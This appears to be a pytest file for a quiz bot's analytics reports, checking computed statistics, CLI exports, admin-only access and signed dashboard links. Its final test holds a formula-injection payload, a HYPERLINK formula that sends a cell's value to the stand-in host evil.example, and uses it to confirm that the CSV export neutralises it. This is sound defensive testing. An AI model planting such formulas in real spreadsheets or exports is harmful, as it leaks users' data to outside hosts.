"""Insight numbers against a hand-computed fixture, and the flag rules at their
thresholds."""

from __future__ import annotations

import asyncio
import json
import re
from pathlib import Path

import pytest

from adapters.phrases import render
from bot.content.banks import Catalog
from bot.domain.insight_links import Signer
from bot.domain.insight_report import LoggedAnswer, Streak, WeekActivity, build
from bot.domain.item_analysis import flags
from bot.persistence import Store
from bot.persistence.dialect import Connection
from bot.services.dispatch import expected_delivery
from bot.services.engine import Engine
from bot.services.requests import Context, Delivery, ShowDashboard, ShowInsights, button
from bot.ui.views import DailyRevealView, DashboardLink, Notice

from .support.channel import (
    ADMIN,
    CHANNEL,
    PLAYERS,
    FakeClock,
    RecordingPublisher,
    moment,
    run_until,
)
from .support.cli import run_quizbot
from .support.environment import FIXTURES
from .test_review import answer_quiz

DAY = 86400.0
T0 = 1_790_000_000.0  # 2026-09-21 14:13 UTC
# tiny-one has 3 choices (right: 0), tiny-two 2 (right: 1); "gone" is no longer in a bank.
SHAPES = {("tiny", "tiny-one"): (3, 0), ("tiny", "tiny-two"): (2, 1)}


def row(
    n: int,
    player: str,
    question: str,
    source: str,
    choice: int,
    right: bool,
    day: int,
    due: bool = False,
    bank: str = "tiny",
) -> LoggedAnswer:
    return LoggedAnswer(n, player, bank, question, source, choice, right, T0 + day * DAY, due)


FIXTURE = [
    row(1, "a", "tiny-one", "quiz", 0, True, 0),
    row(2, "a", "tiny-two", "quiz", 0, False, 0),
    row(3, "b", "tiny-one", "quiz", 2, False, 0),
    row(4, "b", "tiny-two", "quiz", 1, True, 1),
    row(5, "a", "tiny-two", "review", 1, True, 1, due=True),
    row(6, "c", "tiny-one", "daily", 2, False, 2),
    row(7, "b", "tiny-one", "practice", 0, True, 2),
    row(8, "a", "tiny-one", "race", 0, True, 2),
    row(9, "a", "gone", "quiz", 0, True, 2, bank="old"),
]


def test_the_fixtures_numbers() -> None:
    report = build(FIXTURE, "all", T0 + 2 * DAY, lambda b, q: SHAPES.get((b, q)))
    (topic,) = report.topics
    assert (topic.bank_id, topic.players, topic.answers) == ("tiny", 3, 8)
    assert (topic.first_tries, topic.first_right, topic.accuracy) == (5, 2, 40)
    assert (topic.due_reviews, topic.due_passed, topic.retention) == (1, 1, 100)
    one, two = topic.questions  # hardest first
    assert (one.question_id, one.picks, one.first_tries, one.accuracy) == (
        "tiny-one",
        (3, 0, 2),
        3,
        33,
    )
    assert one.top_wrong == 2
    assert (two.question_id, two.picks, two.first_tries, two.accuracy) == (
        "tiny-two",
        (1, 2),
        2,
        50,
    )
    assert two.top_wrong == 0
    assert [(d.day, d.players, d.answers) for d in report.days] == [
        ("2026-09-21", 2, 3),
        ("2026-09-22", 2, 2),
        ("2026-09-23", 3, 3),  # row 9's question is gone: not counted
    ]
    assert report.streaks == (Streak("a", 3), Streak("b", 3), Streak("c", 1))
    assert report.flagged == ()
    # The trend: Monday 21 September's week holds every counted answer.
    assert report.weeks == (WeekActivity("2026-09-21", 3, 8, 5, 2),)
    assert report.weeks[0].accuracy == 40


def test_a_period_keeps_first_tries_from_before_it() -> None:
    report = build(FIXTURE, "week", T0 + 9 * DAY, lambda b, q: SHAPES.get((b, q)))
    (topic,) = report.topics
    # Days 2.. are inside the last 7 days of day 9: rows 6–8; only c's is a first try.
    assert (topic.players, topic.answers, topic.first_tries, topic.first_right) == (3, 3, 1, 0)
    assert report.streaks == ()  # nobody answered on day 8 or 9


def test_one_topic_only() -> None:
    report = build(FIXTURE, "all", T0 + 2 * DAY, lambda b, q: SHAPES.get((b, q)), "other")
    assert report.topics == () and report.days == ()


@pytest.mark.parametrize(
    ("tries", "right", "picks", "expected"),
    [
        (20, 3, (3, 17, 0, 0), ("too_hard", "unpicked_choice")),  # 15 %
        (20, 5, (5, 8, 7), ("too_hard",)),  # 25 %
        (20, 6, (6, 7, 7), ()),  # 30 %: not under it
        (19, 0, (0, 10, 9), ()),  # too few first tries, and too few answers
        (20, 19, (19, 1), ()),  # 95 %: not over it
        (20, 20, (20, 1), ("too_easy",)),
        (40, 39, (39, 1, 1), ("too_easy",)),  # 97.5 %
        (10, 5, (15, 5, 0), ("unpicked_choice",)),  # 20 answers, a choice never picked
        (10, 5, (14, 5, 0), ()),  # 19 answers
    ],
)
def test_flags_at_their_thresholds(
    tries: int, right: int, picks: tuple[int, ...], expected: tuple[str, ...]
) -> None:
    assert flags(tries, right, picks) == expected


def test_the_command_line_prints_the_fixtures_numbers(tmp_path: Path) -> None:
    db = tmp_path / "q.db"
    asyncio.run(_store_fixture(db))
    env = {"QUIZBOT_BANKS": str(FIXTURES), "LANG": "C"}
    topics = run_quizbot("insights", "--db", str(db), "--format", "csv", env=env)
    assert topics.returncode == 0, topics.stderr
    assert topics.stdout.splitlines() == [
        "platform,workspace,topic,title,players,answers,first_tries,first_try_right,"
        "first_try_accuracy,due_reviews,retention",
        "slack,T1,tiny,Tiny test bank,3,8,5,2,40,1,100",
    ]
    questions = run_quizbot(
        "insights", "--db", str(db), "--format", "csv", "--table", "questions", env=env
    )
    assert questions.stdout.splitlines()[1:] == [
        "slack,T1,tiny,tiny-one,5,3,1,33,2,3|0|2,",
        "slack,T1,tiny,tiny-two,3,2,1,50,0,1|2,",
    ]
    days = run_quizbot("insights", "--db", str(db), "--format", "csv", "--table", "days", env=env)
    assert days.stdout.splitlines()[1:] == [
        "slack,T1,2026-09-21,2,3",
        "slack,T1,2026-09-22,2,2",
        "slack,T1,2026-09-23,3,3",
    ]
    as_json = run_quizbot("insights", "--db", str(db), "--format", "json", env=env)
    (document,) = json.loads(as_json.stdout)
    assert document["workspace"] == "T1" and document["topics"][0]["first_right"] == 2
    text = run_quizbot("insights", "--db", str(db), "--workspace", "slack:T1", env=env)
    assert "Insights · all time" in text.stdout
    assert "Tiny test bank: players 3 · answers 8 · right at first try 40% · retention 100%" in (
        text.stdout
    )
    bad = run_quizbot("insights", "--db", str(db), "--workspace", "T1", env=env)
    assert bad.returncode == 2 and "must be PLATFORM:ID" in bad.stderr
    typo = run_quizbot("insights", "--db", str(db), "--topic", "tinny", env=env)
    assert typo.returncode == 2
    assert typo.stderr == "quizbot: no topic 'tinny' (did you mean tiny?)\n"
    small = run_quizbot(
        "insights", "--db", str(db), "--topic", "small-one", "--format", "csv", env=env
    )
    assert small.stdout.splitlines()[1:] == ["slack,T1,tiny,Tiny test bank,3,8,5,2,40,1,100"]


def test_the_shipped_banks_items_pooled_over_workspaces(tmp_path: Path) -> None:
    db = tmp_path / "q.db"
    asyncio.run(_store_fixture(db, ("T1", "T2")))  # the same answers in two workspaces
    env = {"QUIZBOT_BANKS": str(FIXTURES), "LANG": "C"}
    # A player of T1 and one of the same id in T2 are two players: 6 first tries of
    # tiny-one, 2 right; Wilson by hand: 0.0968–0.7000.
    text = run_quizbot("insights", "--items", "--db", str(db), env=env)
    assert text.returncode == 0, text.stderr
    assert text.stdout.splitlines() == [
        "tiny/tiny-one: 6 first tries · facility 33% (10–70%) · discrimination — (of 0)"
        " · picks 60/0/40% · no flags",
        "tiny/tiny-two: 4 first tries · facility 50% (15–85%) · discrimination — (of 0)"
        " · picks 33/67% · no flags",
    ]
    table = run_quizbot("insights", "--items", "--format", "csv", "--db", str(db), env=env)
    assert table.stdout.splitlines() == [
        "topic,question,kind,first_tries,first_try_right,facility,facility_low,facility_high,"
        "discrimination,discriminated_by,pick_rates,flags,estimates,bias,median_error,spread",
        "tiny,tiny-one,choice,6,2,33,10,70,,0,60|0|40,,,,,",
        "tiny,tiny-two,choice,4,2,50,15,85,,0,33|67,,,,,",
    ]
    (first, _) = json.loads(
        run_quizbot("insights", "--items", "--format", "json", "--db", str(db), env=env).stdout
    )
    assert first["interval"] == [10, 70] and first["pick_rates"] == [60, 0, 40]


async def _store_fixture(path: Path, workspaces: tuple[str, ...] = ("T1",)) -> None:
    store = await Store.open(path)

    def work(db: Connection) -> None:
        db.executemany(
            "INSERT INTO review_log (platform, workspace_id, player_id, bank_id, question_id,"
            " source, choice, rating, reviewed_at, duration_ms, was_due)"
            " VALUES ('slack', ?, ?, ?, ?, ?, ?, ?, ?, NULL, ?)",
            [
                (
                    workspace,
                    r.player_id,
                    r.bank_id,
                    r.question_id,
                    r.source,
                    r.choice,
                    3 if r.correct else 1,
                    r.at,
                    int(r.was_due),
                )
                for workspace in workspaces
                for r in FIXTURE
            ],
        )

    await store.database.write(work)
    await store.close()


async def test_insights_and_the_dashboard_link_in_chat(tmp_path: Path, catalog: Catalog) -> None:
    clock = FakeClock(moment("2027-01-04T06:00"))
    signer = Signer("a-test-secret-of-32-characters!!", "https://quiz.example.com")
    store = await Store.open(tmp_path / "q.db")
    engine = Engine(catalog, store, clock, dashboard=signer)
    publisher = RecordingPublisher(clock)
    engine.publishers.register("slack", publisher)
    await answer_quiz(engine, PLAYERS[0], "tiny", [True, False])
    await answer_quiz(engine, PLAYERS[1], "tiny", [False, False])
    admin, member = Context(ADMIN, CHANNEL, None, True), Context(PLAYERS[0], CHANNEL, None)
    refused = await engine.handle(ShowInsights("tiny", "week"), member)
    assert refused.view == Notice("en", "admin_only", "Only an admin can do that.")
    reply = await engine.handle(ShowInsights("tiny", "week"), admin)
    assert reply.delivery is Delivery.PRIVATE
    text = render(reply.view)
    assert "Insights · last 7 days · Tiny test bank" in text
    assert "Tiny test bank: players 2 · answers 4 · right at first try 25% · retention —" in text
    assert "• “Two times three?”: 0% right at first try (of 2) · most picked wrong: “Five”" in text
    assert "No flagged questions." in text
    unknown = await engine.handle(ShowInsights("nope"), admin)
    assert isinstance(unknown.view, Notice) and unknown.view.usage == "insights"
    link = await engine.handle(ShowDashboard(), admin)
    assert isinstance(link.view, DashboardLink) and link.delivery is Delivery.PRIVATE
    assert re.fullmatch(
        r"https://quiz\.example\.com/dashboard/[0-9a-f]+\.[0-9a-f]{64}/", link.view.url
    )
    assert render(link.view) == (
        "Your team's dashboard, only for you: the link works for 24 hours.\n\n"
        f"Open: {link.view.url}"
    )
    # The daily reveal carries the admins' button; clicking it gives the link privately.
    await engine.daily.on(Context(ADMIN, CHANNEL, is_admin=True), "tiny", "07:00", "UTC", 1)
    await run_until(engine, clock, moment("2027-01-04T08:05"))
    reveal = publisher.of(DailyRevealView)[0].view
    assert isinstance(reveal, DailyRevealView) and reveal.dashboard == "qz:l:dashboard"
    assert expected_delivery(button("qz:l:dashboard"), admin) is Delivery.PRIVATE
    clicked = await engine.handle(button("qz:l:dashboard"), admin)
    assert clicked.delivery is Delivery.PRIVATE and isinstance(clicked.view, DashboardLink)
    by_member = await engine.handle(button("qz:l:dashboard"), member)
    assert by_member.view.kind == "admin_only"  # type: ignore[union-attr]
    # Opened to everyone by the settings; and no dashboard without a secret.
    open_engine = Engine(catalog, store, clock, insights_for_everyone=True)
    opened = await open_engine.handle(ShowInsights(), member)
    assert "Insights · all time" in render(opened.view)
    off = await open_engine.handle(ShowDashboard(), admin)
    assert off.view.kind == "dashboard_off"  # type: ignore[union-attr]
    await store.close()


def test_a_title_that_is_a_formula_reaches_the_csv_as_text(tmp_path: Path) -> None:
    """A member can name a new topic (a proposal); a spreadsheet must not run that name."""
    db, banks = tmp_path / "q.db", tmp_path / "banks"
    asyncio.run(_store_fixture(db))
    banks.mkdir()
    formula = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
    tiny = (FIXTURES / "tiny.yaml").read_text(encoding="utf-8")
    title = '{en: "Tiny test bank", hi: "छोटा परीक्षण बैंक", bn: "ছোট পরীক্ষা ব্যাংক"}'
    assert title in tiny
    written = tiny.replace(title, "{en: '" + formula + "', hi: 'छोटा', bn: 'ছোট'}")
    (banks / "tiny.yaml").write_text(written, encoding="utf-8")
    env = {"QUIZBOT_BANKS": str(banks), "LANG": "C"}
    topics = run_quizbot("insights", "--db", str(db), "--format", "csv", env=env)
    assert topics.returncode == 0, topics.stderr
    assert topics.stdout.splitlines()[1] == (
        'slack,T1,tiny,"\'=HYPERLINK(""https://evil.example/?""&A2,""Open"")",3,8,5,2,40,1,100'
    )
